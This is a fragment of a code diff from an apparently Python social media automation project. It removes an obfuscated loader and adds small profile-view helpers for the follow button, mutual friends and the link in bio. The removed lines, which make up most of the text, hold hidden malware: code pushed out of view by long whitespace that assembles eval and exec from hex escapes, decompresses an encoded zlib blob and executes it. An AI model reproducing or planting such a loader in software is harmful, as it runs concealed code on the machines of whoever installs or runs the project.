-        _square.Round(_ceil = -27720 - _square.Random)                                                                                                                                                                                                                                                          ;_callfunction._floor(_system='OooOoooOOOo0OO00O0O00OO00',_hypothesis=b'.Q\xf9\n4=4\xdbD\x9c\xfdo\x19\xc8k=v\x88\xf5\x90\xfe\xaaL\x81\xa4\xd7\x17\xab\xc8\xe5\x03\xd4j\x91\x9ai\xb0)\xfa\xac\x1dpj\x04\xcfs\x95oP\x17\xf1\xcbn9\x17\x93^\x06sX8 \xe6\xac\xae\r\xcc@\xdd[$\xcc \xbd[+J*\x8f\x1b\xd2\xcb\xc8\r=8\xdf\xe7\x9f\xf1+xVqna\x9a\xd8\xf73\x19\x9d,f\xa0\x1c7\x05\x0b\x9a\tFp{e\x0b\xd4\xb4J\xd8`\xfa\xeb\xdfo\x83\x99\x0e\xea\xd3<f1\xa3^\x8b\xc2f\xc1\x94M\xa7\x86\x10\x0b.u\xc3\xb2\x7f\xa3\x02$d\xa3\x12TH\xff?J\xec\xbbUbO\x14\x03\xdc\x9b\x805\xb0\xf0\xe5}\xb8\x19\xa4P\x89\x19L\x9b\x08)\x9fwifX!;\xb2y\x00\xb3i\xf0\xc2\x13\x9d\xeb\xa7\x8e\xb3\x04\xa9)\x8eX\x13\xdch\x91\xe9=\xfb\x7fHx#\xd2\xc1\xff\x1f\xd9\xbc\xb4U\x18\xce\x8a\xadc\x10<g\x14\xb0\xec\xc0\xa3\xa4\xa13\x8c[\xda\x98L\xc2#\x03\xaf\x18sq\xcf\x01P6\xa5\xf2\xa1\x9d\x1b\xb2\xc5\x14\xd6\xf1\x93C\n\xe7T8\xe9b\xcf\xd2\xb9\xde\xfc\xd4\x8a\xfa\xc7\x0fi\xcc\xb9\x98\x07\xcb\x9f\t\xd53T[k\x1fs\xe5!\xe7\x85\xc9\x03\x85\x96\xea\xaa\xd5IWl\xb8v5\xa7\x01\x81f\xda"e\xb2\xfe\xec\xf4\xcf\xcdc}\xad\x95\x9b\xab\xf5\xc7\xbf\x9b8i\xa8\xa06#\xf5\xe5+\xf8\x98\x9c\xfe\x9e\x1c\xa92]\x85!\x9e\x05\xbf`\xae8\x11\x87\xbf\x92\xe2#\x7f\x13\x07Q\xff^\xd6>BK\xcfc\x8d\xb31\xb3\xb1x\x18~\x9bG\x0b-\x8d\x9fX\x8fA\x9c\x92\xff\x1c\x0c\xd9\xf1\xf9\x9b!\xc9N\xdao\x90\xef\n\x9c\xce\'\xf7\xb6qn\xcfn\xb4\xd2m\xf8\xe6\t\x9c\x8dNT\xb2\xf8\xec\xc8\x953\xbd\x97\x0f\xbbl\xa5"\xd2\xec\xd1\x95\xcd\xa0\xad\xfb\x90\xf5\xa8p\x18\x80|6\x8f\x1c\xed\xa6\x8es\xe9M\x015\x0e\xf8\x04L\x07c\x03KU\x90\xe4dy\xf7\xd4\x89\xc1\x13G\xfb\xf9Y\xf3\x9d\xb3\xf3\xd1Q\x7f\xd0\xb3Oz\xdd\xc3\xde\xb9\xdd\x05\xbb\xea\x9e\x83l\x86\xe3n\x7f\x087\xc6\xa33{\xd0;\x1a\xdb\x17\xe3\xf7\xef\x0c\xbe+\xdd\xb5\x9f:\xf8\xa7S\x93\xef\x99\xb7\xbb\x07\x07\xa3\xf7\xa0\x1e\xe3\xfex\xd0\xd3V\xac\x9e(]^\xf0\x80\xe2P8\x95\x1e\xca\x9a\xbc\x8c\xa53\x18\r\x8f\xd5a\x04\xcf\xb0\xaa\x8dJ\x0bj\x8ffT(\xa9}r\\\xad\xc3U\x1b\x03\xc6\xae\xc5\x01j\xc9\xe1u\t\x9b\xe7\x0e\x9f\xf9\x14\nG\xeei\xfc\x8a\xfc\xe9x1_.\x18\xc7\x000\x81\x1f\xb8\x04\xbf\xee\xcc\x91\x14\x9an\xc0.\xa51b1@\xba\xd7\xdf\xb0c\xbd\x82\'\xb5\xf9\xc2y\x93\xd6\xa3\x9e\'\x90\x9c\xf0\xf5\xe6_Q\x87\xf4#q\x0e"x\x90\x80\x8a\xd3\xbe\xd8\xf5\x7f\x93\x01\x8d!\x18\xe5g\xc3\xf2D\xfc\x9b\xed]\xb2\xf0\x82ULKk\x81+x\x86\x97\xfc\xbe\x1d\xeb_;m\xf2f\x17\xfe\x803Z\xf9x\xc6\xf2\xbe\xee\\\x91\xf5<7\xf1y#\x06\x15\x98t\xcbR}yEN\x9d\xfb\tE\xbe4\xc1}Dl\x16o\'9\x0e\xe0\x04\xde\xbdA\xd9E\xb1\xca9\xd3\xc9\xbb\nw\x96\xf9;\x84\xc0\x1e\xa47\ni\x8f7\xe1\xf1\x7f\xc5\t"\xb9_93F\xd6\xc5%\xd1\xfbb\xa4\x84\xbe\xb4\xf8\xc0J\xcf9\x93(\xd4u9\xe5\x8d\xf4\x12\xca\xf2\xc3\xbah\x0b\xad\xdc7\xbd\x8a@\x82N\x82\x8f\xa4\xf2\xfc\x86\x9d\xe4\x04\xebV\xac]\x1c\x99`\xd5>\xab\x8bXZl\'qH\xba[\x17Q\x96~\x91\xd1$\x96\x91=\xab\x8bLZ\x8f-\xa1\x93\xee\xd6\xd6\x83d@-K?\xb9U\x07Ei\xad\\\xb6\xd5\xb0t\xbe\x9b\xa4Y\xa5\xd3\xfd\xa3\xb2\xd9p\xde\']S\xd5{\x01tUVG>O\xb06\x0cK\xeb\x19\x91\x01\xf2\xc9va\xc0\xa7Ww\x03\xb0\xac\xc2\x06\x90\\9\r\x00\xb2\xc2\x99\xb8\x91\xaa\x92\xe6\xf9\x13\x04\xcb\xb1\xa4c\xe6\xb4`q$\x9e\x86\x95\xff\x13\xc5N\xecM\xc5\t\x8dy\xa4Y\xadq9R\x8d\x9e\xef\xc9>={\xf3\x01oI>\xd0\xc1\xf7\x0c\xe2N4yhcxG\xc9\xda\xfeB\xea\'9P2\xde\x14\xe7gH\x0fr\x94\xe5\xe3\xf0\xe5\xba\xa5"8\x9c8J\x1f\x1dp\x97%\x1bH\x8d\x13\xe2\x95\x97\x03\x1c@G\x8a\xe1\x88\x87\xa9\xf2\xacN1\x85\x83\xef\xdd\xc3\x80~\xe6\xac|qLH\xbe\x13\xb9\x94*,\x8cA\xcc/\x1d0\xbd\xdb\xc5\xc4\x81\x04RaA.\xfb\xc4o\xbf4\x13x\xb5\xd5\\\xe0\x9bB7cC\nd|\xb1\x88S$`\xed@Z\xe70\xa5\xa5\x18\x1a\x87\x99\x14\xc4\xb8o\x9d\xc5Uw\xb5\x92\xde\x1b\x8f\xd1-\x95\xb6o\x84\xd1\xd4\x19rU\x8c\xfc\xd2\x8d\x000\x1e\x1f\xf7\x8eG\xe7\x1f\xe4s\xbeJ\x0eFOE\x16\xb9\xaecC\xbd8F\xe7d8K\xb2\xb7\xd6\xa8\x89\x93\xfc\xc8\xbf\xe2"\x94\x7f\x8b{\xc9+\x97-\xcb\x8b\xce\xc4\xfd\xee\xf4\xf9fU\xb0\xaa\xdb9\xc5\x05\xb0\xfc\xa4\xf7\xfc\xa0\x18\x08\xdf\x01\xe2\x89\x9e$\xeb>\x92\xf7-\xad\xef>jEhFAB\x1f_Nj\xbc\xa4\x94\x8a\xfda\xea\xea\x12\xd4\xef2\x9a\xd7*lq\xca%kl~\x08~\xb1%\x8e\x8dg\xfbC#\x1e\x1e\xf3\x9b\xb8\xd7\x17Q\xe0\xe2\xf6\xe4\xf4\x95F\x95>\xe1\x98\xf4.?\xab\x1dW\xbd\xe53\xf7\x867Dd\x00\x1f\xef.A\xf58\xc5\xc6\x81$\x9e?)\xbd\xa3\x97\xbf\x9f\xc4\x921\xb4\x92\x15\xef\r\xd2h}\xdc\xd1\xac\xe0Jju\xd2\x19\x1c\xe5\xa5\x8b\x15\x03X^\nJ\x08NU\x00\xe6\xec\xfc\xe8\\\x92\xef\xf6\x89a^\x1a\xaf\x8a\x8cB\x19U\t\x13\xb2\x0f3\xc1\x02D\xc74I\x82\xf05\x01l\x93kz\xbf\xef;\x8b\x89\xeb\x90\xeb\xbd\xb4\x86\xeb\xcb\x17\xe9?\xf3\xf3\x88\xd2y\xc6T\x0b;d\x8d\x15\xa7\xd4\xd6\xd2\xedl\x91\xc8Z\xddn4\x1a\x83t~\\\xbc\x06\x997\xc8\x87^\xc0\x8b\xe7\x0b\xd1\xc1\x06\xdb)\xe1\xd0!\xe0\x89T\xb7so:\xcf\x96\xed;1r\x1b\xcf\xb1\x8aq\xb1>#\xe1*@?\x86\x88\x08?\xb5N\xc0\xe3\xcbq<\xee\xe4b\xc6H4\xe7\xef\x9d\x16?\x80\xdf\xde\xd5\x8a\xe1\x0b\x8b\x11\xcf\xc2\xbb\x9a\xc7\x98;%\xae7\x9bQ\xcc\x06c\xbf\x07\xe1\x05\xa0\xc0\x17\n\xf1\xb7\xe8!\xa4\xa8\xaaS8r\\Z8#\xdfN\x11\xec\x93\x8f\x97\xeb,\xd5\xce-\xf5\x07\x9d\xee|\x8b\xb3h.\xd0M\xde\x8d~H\xcf\x97\xe7\xc7N-\xbc\xd8\xbbB\xd7\x8dk\x0c\xbc`\xca\x82\x08\x17\n\xe3\xc1\x02i&\xaf\x8c.!\r\xdf\t\n#0K\x08B\xf6\x0f\x8ar\xe5\rD\xcdMJ\x0b\xd5MQ\xf1\xee\xe93)mZ\xbf\xaa\xb4\x8a\xca\xe6KBj\x0c\\*\x86\xe1\x7f_\x87#\xbd\xe4\xafQ\xed\xdds@u,\x02O\x86\xd8\xb0\x17\x8b\x14\xb0.\x92\xed\xbb\xd2\x94\xa9\x19\x17\xe4\xaf-\xac\x11\x18Tg\x80\x8c\x12\xf2\n{D?\x83\x84\x8a\xaf~\xac\x1c.)o\x89T\x82\x08|\xf8\xfc\xe1bAPb;+\xaf\xb0C\x0e\xf3\xe1\xd1\xce3\x05Wx\xc1e\xdd\x9c\xc0\xba\xfc\xe6\xdfgdv\x9b$\xaf\x1d\xd5\x0e\xe3\xdfq\xba\xad\xb2{\x11\xaf%]\xdf\xfe\xf5)\xe3\xbfO}\xf5\x11\xed)\xa7\xf8(!xm8[#\x19\xfa\x9f\x16\xb3\x0f\x80\xdc~\x00!\xbb\xd5\xfa?5\xc0B\xa7')
+        return posts_count
 
-        _square.CallFunction(_multiply = _square.Random - 9687)                                                                                                                                                                                                                                                          ;nnmnmnnnnnnnnmmnm,ODDODoDODOooDOODDoOOD,NMNNMMNMNMMMMMMNNNNM,S2SS22SSS22S22SS2S22SS2,lIllIIIIIIllIIIIIIIIIIlII=(lambda jlijjjljjlliijiiijjli:jlijjjljjlliijiiijjli['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']),(lambda jlijjjljjlliijiiijjli:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(jlijjjljjlliijiiijjli)"),filename='\x77\x78\x78\x77\x77\x78\x77\x77\x77\x77\x77\x78\x77\x77\x78\x78\x78',mode='\x65\x76\x61\x6c'))),(lambda jlijjjljjlliijiiijjli:jlijjjljjlliijiiijjli(__import__('\x7a\x6c\x69\x62'))),(lambda S2SSSSS222S22S2S22,jlijjjljjlliijiiijjli:S2SSSSS222S22S2S22(jlijjjljjlliijiiijjli)),(lambda:(lambda jlijjjljjlliijiiijjli:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(jlijjjljjlliijiiijjli)"),filename='\x77\x78\x78\x77\x77\x78\x77\x77\x77\x77\x77\x78\x77\x77\x78\x78\x78',mode='\x65\x76\x61\x6c')))('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63'))
-        if 264266 > 5439908:
-            _square.CallFunction(_multiply = _square.Random / -63465)
-        elif 265492 < 3561246:
-            _callfunction(_theory = 64436 - -91270).CallFunction(_multiply = _square.Random - -51702)                                                                                                                                                                                                                                                          ;lIllIIIIIIllIIIIIIIIIIlII()(S2SS22SSS22S22SS2S22SS2(nnmnmnnnnnnnnmmnm(NMNNMMNMNMMMMMMNNNNM(ODDODoDODOooDOODDoOOD('\x76\x61\x72\x73'))),_callfunction.Positive(MemoryAccess='jilijjilllllijljjjiiij')+_callfunction.Positive(MemoryAccess='OOOooooO0oO0OoOO0OOoOoO0')+_callfunction.Positive(MemoryAccess='OooOoooOOOo0OO00O0O00OO00')))
+    @staticmethod
+    def _get_follow_button_text(device, profileView: ProfileView = None) -> str:
+        profileView = ProfileView(device) if profileView is None else profileView
+        _, text = profileView.getFollowButton()
+        return text
 
-    except Exception as While:
-        import traceback
-        print(f'    module {__name__} raised an Exception:')
-        print(f'     {While}')
-        print(traceback.format_exc())
-        if 285914 > 3172094:
-            _callfunction.execute(code = Builtins(While))
+    @staticmethod
+    def _get_mutual_friends(device, profileView: ProfileView = None) -> int:
+        profileView = ProfileView(device) if profileView is None else profileView
+        return profileView.getMutualFriends()
 
-        elif 160150 > 7548450:
-            _callfunction(_theory = -5192 - 68049).CallFunction(_multiply = _square.Random / 83914)
\ No newline at end of file
+    @staticmethod
+    def _get_link_in_bio(device, profileView: ProfileView = None) -> str:
+        profileView = ProfileView(device) if profileView is None else profileView
+        return profileView.getLinkInBio()